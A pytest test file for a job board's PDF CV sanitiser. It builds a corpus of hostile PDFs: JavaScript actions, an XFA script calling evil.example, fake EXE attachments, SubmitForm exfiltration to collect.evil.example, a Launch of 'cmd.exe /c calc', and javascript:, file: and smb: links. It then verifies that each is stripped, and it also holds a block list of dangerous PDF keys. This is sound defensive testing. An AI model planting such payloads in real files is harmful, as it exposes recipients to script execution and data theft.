"""Active content in CVs: a corpus of hostile PDFs, each a real two-page CV (text, a font, an
image, a web link, a mail link, a jump to page 2 and a bookmark) plus one trick. Every one is
accepted and stored as a clean copy: what an employer downloads carries none of the trick, and
the text, font, image, harmless links and bookmark are still there. The inspection of the clean
copy is the guard behind the cleaning; ``flask jobboard sanitise-cvs`` cleans files stored before.
"""

from __future__ import annotations

import hashlib
import io
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import select

from jobboard.applications import applying, pdfcheck
from jobboard.applications.models import Application, CvDocument
from jobboard.extensions import db
from tests.applications.conftest import encrypted_pdf, stored_cv, stored_files, text_of

CV_TEXT = "Miriam Zalcberg, paediatrician"
LINKEDIN = "https://www.linkedin.com/in/miriam-zalcberg"
MAILTO = "mailto:miriam@example.org"
IMAGE = bytes([200, 30, 30, 30, 200, 30, 30, 30, 200, 250, 250, 250])  # 2 x 2 RGB
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."
# None of these may be anywhere in a clean copy (it is written without object streams, so every
# dictionary is plain text).
FORBIDDEN = (
    b"/JavaScript",
    b"/JS",
    b"/XFA",
    b"/AcroForm",
    b"/Widget",
    b"/EmbeddedFile",
    b"/EF",
    b"/FileAttachment",
    b"/RichMedia",
    b"/Launch",
    b"/SubmitForm",
    b"/ImportData",
    b"/GoToR",
    b"/OpenAction",
    b"/AA",
    b"/ObjStm",
    b"MZ\x90",
)


# --- the corpus ----------------------------------------------------------------------------


def javascript(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def link(pdf: pikepdf.Pdf, action: Dictionary, **extra: object) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], Border=[0, 0, 0], A=action, **extra)
    )


def add_link(pdf: pikepdf.Pdf, action: Dictionary, **extra: object) -> None:
    pdf.pages[0].obj.Annots.append(link(pdf, action, **extra))


def uri(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address))


def to_experience() -> Dictionary:
    return Dictionary(S=Name.GoTo, D=String("experience"))


def attached_exe(pdf: pikepdf.Pdf, name: str) -> Dictionary:
    payload = pdf.make_stream(EXE, Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=payload)))


def cv_document() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(2):
        pdf.add_blank_page(page_size=(595, 842))
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    image = pdf.make_stream(
        IMAGE, Type=Name.XObject, Subtype=Name.Image, Width=2, Height=2, ColorSpace=Name.DeviceRGB, BitsPerComponent=8
    )
    first.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Im1=image))
    first.Contents = pdf.make_stream(
        f"BT /F1 14 Tf 72 770 Td ({CV_TEXT}) Tj ET q 40 0 0 40 72 680 cm /Im1 Do Q".encode()
    )
    pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("experience"), Array([second, Name.Fit])])))
    first.Annots = pdf.make_indirect(
        Array(
            [
                link(pdf, uri(LINKEDIN)),
                link(pdf, uri(MAILTO)),
                link(pdf, to_experience()),
            ]
        )
    )
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Experience", action=to_experience()))
    return pdf


def with_link(action: Dictionary, **extra: object) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: add_link(pdf, action, **extra)


def xfa_form_with_a_script(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="cv">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b'xfa.host.gotoURL("https://evil.example/xfa")</script></event>'
        b"</subform></template></xdp:xdp>"
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=[300, 700, 500, 720],
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots.append(field)
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([field]), XFA=xfa))
    pdf.Root.NeedsRendering = True


def file_attachment_with_an_exe(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots.append(
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=[500, 780, 520, 800],
                Name=Name.Paperclip,
                Contents=String("Open me"),
                FS=attached_exe(pdf, "invoice.exe"),
            )
        )
    )


def named_javascript(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert('named-script')")))
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("init"), script]))


def embedded_files(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names.EmbeddedFiles = Dictionary(Names=Array([String("setup.exe"), attached_exe(pdf, "setup.exe")]))


def rich_media(pdf: pikepdf.Pdf) -> None:
    flash = pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String("movie.swf"),
            EF=Dictionary(F=pdf.make_stream(b"FWS\x0a-richmedia-payload", Type=Name.EmbeddedFile)),
        )
    )
    pdf.pages[0].obj.Annots.append(
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[300, 400, 500, 500],
                RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), flash]))),
                RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
            )
        )
    )


def bookmark_with_a_script(pdf: pikepdf.Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Publications", action=javascript("app.alert('bookmark-script')")))


def javascript_on_open(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = javascript("app.alert('open-script')")


def javascript_when_a_page_opens(pdf: pikepdf.Pdf) -> None:
    pdf.pages[1].obj.AA = Dictionary(O=javascript("app.alert('page-script')"))


def javascript_when_the_document_closes(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=javascript("app.alert('close-script')"))


# name: (the trick, bytes of its payload)
HOSTILE: dict[str, tuple[Callable[[pikepdf.Pdf], None], bytes]] = {
    "xfa form with a script": (xfa_form_with_a_script, b"xfa.host.gotoURL"),
    "file attachment carrying an exe": (file_attachment_with_an_exe, EXE),
    "link that submits form data": (
        with_link(
            Dictionary(
                S=Name.SubmitForm, Flags=4, F=Dictionary(FS=Name.URL, F=String("https://collect.evil.example/cv"))
            )
        ),
        b"collect.evil.example",
    ),
    "link that imports data": (
        with_link(
            Dictionary(
                S=Name.ImportData,
                F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/import.fdf")),
            )
        ),
        b"import.fdf",
    ),
    "link to a windows share": (with_link(uri("\\\\unc-host\\share\\cv.pdf")), b"unc-host"),
    "go-to-remote on a windows share": (
        with_link(
            Dictionary(
                S=Name.GoToR, F=String("\\\\gotor-host\\share\\other.pdf"), D=Array([0, Name.Fit]), NewWindow=True
            )
        ),
        b"gotor-host",
    ),
    "launch from a windows share": (
        with_link(
            Dictionary(
                S=Name.Launch,
                F=String("\\\\launch-host\\share\\run.exe"),
                Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")),
            )
        ),
        b"launch-host",
    ),
    "javascript: link": (with_link(uri("javascript:app.alert(document.cookie)")), b"javascript:"),
    "file: link": (with_link(uri("file:///C:/Windows/System32/calc.exe")), b"calc.exe"),
    "smb: link": (with_link(uri("smb://smb-host/share")), b"smb-host"),
    "data: link": (with_link(uri("data:text/html,<script>alert(1)</script>")), b"data:text/html"),
    "javascript on open": (javascript_on_open, b"open-script"),
    "javascript in a link": (with_link(javascript("app.alert('link-script')")), b"link-script"),
    "javascript on hovering a web link": (
        with_link(uri("https://example.org/"), AA=Dictionary(E=javascript("app.alert('hover-script')"))),
        b"hover-script",
    ),
    "javascript when a page opens": (javascript_when_a_page_opens, b"page-script"),
    "javascript when the document closes": (javascript_when_the_document_closes, b"close-script"),
    "document-level javascript": (named_javascript, b"named-script"),
    "embedded files": (embedded_files, EXE),
    "rich media": (rich_media, b"richmedia-payload"),
    "bookmark with a script": (bookmark_with_a_script, b"bookmark-script"),
}


def hostile_pdf(trick: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = cv_document()
    trick(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False)  # the payload is in the uploaded bytes as it is
    return buffer.getvalue()


# --- what a clean copy is ------------------------------------------------------------------


def page_text(page: pikepdf.Page) -> str:
    return "".join(str(operands[0]) for operands, operator in pikepdf.parse_content_stream(page, "Tj"))


def links(page: pikepdf.Page) -> list[dict[str, str]]:
    return [{str(key): str(value) for key, value in annotation.A.items()} for annotation in page.Annots]


def bookmarks(pdf: pikepdf.Pdf) -> list[tuple[str, str | None]]:
    found, item = [], pdf.Root.Outlines.get("/First")
    while item is not None:
        found.append((str(item.Title), str(item.A.S) if "/A" in item else None))
        item = item.get("/Next")
    return found


def assert_clean(data: bytes, payload: bytes) -> None:
    for marker in (*FORBIDDEN, payload):
        assert marker not in data, marker
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 2
        first = pdf.pages[0]
        assert page_text(first) == CV_TEXT
        assert first.Resources.Font.F1.BaseFont == Name.Helvetica
        assert first.Resources.XObject.Im1.read_bytes() == IMAGE
        assert [str(key) for key in pdf.Root.Names.keys()] == ["/Dests"]  # noqa: SIM118 - a pikepdf Dictionary
        assert links(first) == [
            {"/S": "/URI", "/URI": LINKEDIN},
            {"/S": "/URI", "/URI": MAILTO},
            {"/S": "/GoTo", "/D": "experience"},
        ]
        assert "/AA" not in pdf.pages[1].obj
        assert bookmarks(pdf)[0] == ("Experience", "/GoTo")
        assert all(action in (None, "/GoTo") for _title, action in bookmarks(pdf))
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Stream):
                assert payload not in obj.read_bytes()


# --- uploading, applying, downloading ------------------------------------------------------


def upload(client, data: bytes, filename: str = "cv.pdf"):
    return client.post(
        "/me/cvs", data={"file": (io.BytesIO(data), filename, "application/pdf")}, content_type="multipart/form-data"
    )


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_cv_is_stored_and_sent_to_employers_as_a_clean_copy(client, world, login, uploads, case):
    trick, payload = HOSTILE[case]
    hostile = hostile_pdf(trick)
    assert payload in hostile
    login(world.doctor)

    assert upload(client, hostile, "hostile.pdf").status_code == 302

    cv = db.session.scalar(select(CvDocument).where(CvDocument.original_name == "hostile.pdf"))
    stored = (uploads / cv.stored_name).read_bytes()
    assert_clean(stored, payload)
    assert cv.page_count == 2 and cv.size_bytes == len(stored) and cv.sha256 == hashlib.sha256(stored).hexdigest()
    assert client.get(f"/me/cvs/{cv.id}/download").data == stored

    applied = client.post(f"/jobs/{world.posting.id}/apply", data={"cv_id": str(cv.id), "cover_note": ""})
    assert applied.status_code == 302
    application = db.session.scalar(select(Application).where(Application.doctor_id == world.doctor.id))
    login(world.recruiter)
    sent = client.get(f"/org/{world.org.slug}/applications/{application.id}/cv")

    assert sent.status_code == 200
    assert_clean(sent.data, payload)


def test_a_plain_cv_keeps_its_links_bookmark_and_content(client, world, login, uploads):
    login(world.doctor)

    assert upload(client, hostile_pdf(lambda pdf: None), "plain.pdf").status_code == 302

    cv = db.session.scalar(select(CvDocument).where(CvDocument.original_name == "plain.pdf"))
    assert_clean((uploads / cv.stored_name).read_bytes(), b"\x00no payload\x00")


@pytest.mark.parametrize("case", list(HOSTILE))
def test_the_inspection_behind_the_cleaning_knows_every_trick(case):
    trick, _payload = HOSTILE[case]
    assert pdfcheck.inspect(hostile_pdf(trick)) == {"ok": False, "reason": "active_content"}


def test_what_the_cleaning_leaves_active_is_refused(client, world, login, uploads):
    """A script where no cleaning rule looks (an entry of a page that no reader knows): the
    inspection of the clean copy finds it, and the upload is refused with what to do."""
    hostile = hostile_pdf(lambda pdf: setattr(pdf.pages[0].obj, "PieceInfo", javascript("app.alert('hidden')")))
    login(world.doctor)
    before = stored_files(uploads)

    response = upload(client, hostile)

    assert response.status_code == 422
    assert (
        "This PDF contains scripts, form fields or attached files that could not be removed. "
        "Save it again as a plain PDF (print to PDF) and upload that."
    ) in text_of(response)
    assert stored_files(uploads) == before


@pytest.mark.parametrize(
    ("address", "kept"),
    [
        (LINKEDIN, True),
        ("http://example.org/cv?lang=he#top", True),
        ("HTTPS://EXAMPLE.ORG/", True),
        (MAILTO, True),
        ("javascript:app.alert(1)", False),
        ("JavaScript:app.alert(1)", False),
        (" https://example.org/", False),
        ("file:///etc/passwd", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("smb://host/share", False),
        ("\\\\host\\share\\cv.pdf", False),
        ("//host/share", False),
        ("https://host\\share", False),
        ("ftp://example.org/cv.pdf", False),
        ("cv.pdf", False),
        ("mailto:", False),
    ],
)
def test_only_web_and_mail_addresses_are_kept(address, kept):
    assert pdfcheck.is_web_address(String(address)) is kept


# --- CVs stored before ---------------------------------------------------------------------


def test_sanitise_cvs_rewrites_stored_cvs_and_sent_copies_in_place(app, world, db_session, uploads):
    trick, payload = HOSTILE["file attachment carrying an exe"]
    old = stored_cv(world.doctor, "old.pdf", hostile_pdf(trick), default=False)
    locked = stored_cv(world.doctor, "locked.pdf", encrypted_pdf(), default=False)
    application = applying.apply(world.doctor, world.posting, old, "")
    db_session.commit()
    locked_bytes = (uploads / locked.stored_name).read_bytes()
    files = stored_files(uploads)
    runner = app.test_cli_runner()

    result = runner.invoke(args=["jobboard", "sanitise-cvs"])

    # The world's two CVs, the old one and the application's copy; the encrypted one is kept.
    assert "CV files rewritten as clean copies: 4; clean already: 0." in result.output
    assert (
        f"Not cleaned, left as it is: CV {locked.id} ({locked.stored_name}): This PDF is protected by a password."
        in result.output
    )
    assert result.exit_code == 1
    db.session.expire_all()
    assert stored_files(uploads) == files
    assert (uploads / locked.stored_name).read_bytes() == locked_bytes
    for stored_name in (old.stored_name, application.cv_stored_name):
        assert_clean((uploads / stored_name).read_bytes(), payload)
    cleaned = (uploads / old.stored_name).read_bytes()
    assert (old.size_bytes, old.page_count, old.sha256) == (len(cleaned), 2, hashlib.sha256(cleaned).hexdigest())
    assert application.cv_size_bytes == len((uploads / application.cv_stored_name).read_bytes())

    again = runner.invoke(args=["jobboard", "sanitise-cvs"])

    assert "CV files rewritten as clean copies: 0; clean already: 4." in again.output
    assert (uploads / old.stored_name).read_bytes() == cleaned


def test_sanitise_cvs_reports_a_missing_file(app, world, db_session, uploads):
    (uploads / world.cv.stored_name).unlink()

    result = app.test_cli_runner().invoke(args=["jobboard", "sanitise-cvs"])

    assert f"CV {world.cv.id} ({world.cv.stored_name}): the file is missing" in result.output
    assert "CV files rewritten as clean copies: 1; clean already: 0." in result.output  # the other doctor's
    assert result.exit_code == 1
    db.session.expire_all()
    assert db.session.get(CvDocument, world.cv.id) is not None
